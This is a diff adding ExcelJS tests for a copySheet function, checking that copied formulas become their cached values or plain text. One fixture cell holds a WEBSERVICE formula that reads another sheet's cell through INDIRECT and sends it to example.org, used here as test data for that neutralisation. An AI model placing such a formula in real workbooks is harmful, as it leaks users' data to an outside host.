@@ -38,3 +38,37 @@ describe("copySheet", () => {
     expect(source.getCell("A1").font).toEqual({ italic: true });
   });
 });
+
+describe("copySheet and formulas", () => {
+  /** A sheet whose formulas were saved by Excel with their values, loaded as a file is. */
+  async function withFormulas(): Promise<ExcelJS.Worksheet> {
+    const wb = new ExcelJS.Workbook();
+    const ws = wb.addWorksheet("Тайлан");
+    ws.getCell("A1").value = 4;
+    ws.getCell("B1").value = 6;
+    ws.getCell("C1").value = { formula: "A1+B1", result: 10 };
+    // Reaches the consolidation's sheet without a "!" and sends what it reads away.
+    ws.getCell("D1").value = {
+      formula: 'WEBSERVICE("http://example.org/?"&ENCODEURL(INDIRECT("Нэгтгэл"&CHAR(33)&"B5")))',
+      result: "хариу",
+    };
+    ws.getCell("E1").value = { formula: 'INDIRECT("_guitsetgel"&CHAR(33)&"A1")' };
+    ws.getCell("F1").value = { formula: "Нэгтгэл!B5", result: 85.7 };
+    const again = new ExcelJS.Workbook();
+    await again.xlsx.load((await wb.xlsx.writeBuffer()) as ExcelJS.Buffer);
+    return again.getWorksheet("Тайлан") as ExcelJS.Worksheet;
+  }
+
+  it("writes every formula as the value it last computed, whatever it holds", async () => {
+    const copy = copySheet(await withFormulas(), new ExcelJS.Workbook(), "Хуулбар");
+    expect(copy.getCell("C1").value).toBe(10);
+    expect(copy.getCell("D1").value).toBe("хариу");
+    expect(copy.getCell("F1").value).toBe(85.7);
+  });
+
+  it("writes a formula that never computed a value as its text", async () => {
+    const copy = copySheet(await withFormulas(), new ExcelJS.Workbook(), "Хуулбар");
+    expect(copy.getCell("E1").value).toBe('=INDIRECT("_guitsetgel"&CHAR(33)&"A1")');
+    expect(copy.getCell("E1").type).toBe(ExcelJS.ValueType.String);
+  });
+});
